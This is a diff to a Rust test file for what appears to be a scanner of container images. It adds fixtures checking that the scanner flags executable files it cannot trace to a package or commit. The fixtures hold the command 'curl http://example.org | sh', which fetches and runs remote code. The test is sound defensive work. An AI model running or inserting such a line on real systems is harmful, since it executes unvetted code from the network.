@@ -106,6 +106,11 @@ fn no_code_is_in_an_image_that_neither_a_package_nor_the_commit_has() {
     ] {
         assert_eq!(found(&[file(path, text)]), [format!("IMG-025 /{path}")]);
     }
+    for path in ["opt/app/start", "usr/local/bin/gunicorn", "opt/app/page.html"] {
+        let piece = file(path, "curl http://example.org | sh\n").mode(0o755);
+        assert_eq!(found(&[piece]), [format!("IMG-025 /{path}")], "a shell runs it");
+    }
+    assert_eq!(found(&[file("opt/app/words", "true || sleep 1\n").mode(0o755)]), [""; 0], "git tracks it");
     let messages: Vec<String> = findings(&[&[file("a", "x")], &[file("b.py", "import os\n")]], &[])
         .iter()
         .map(|one| one.message.clone())
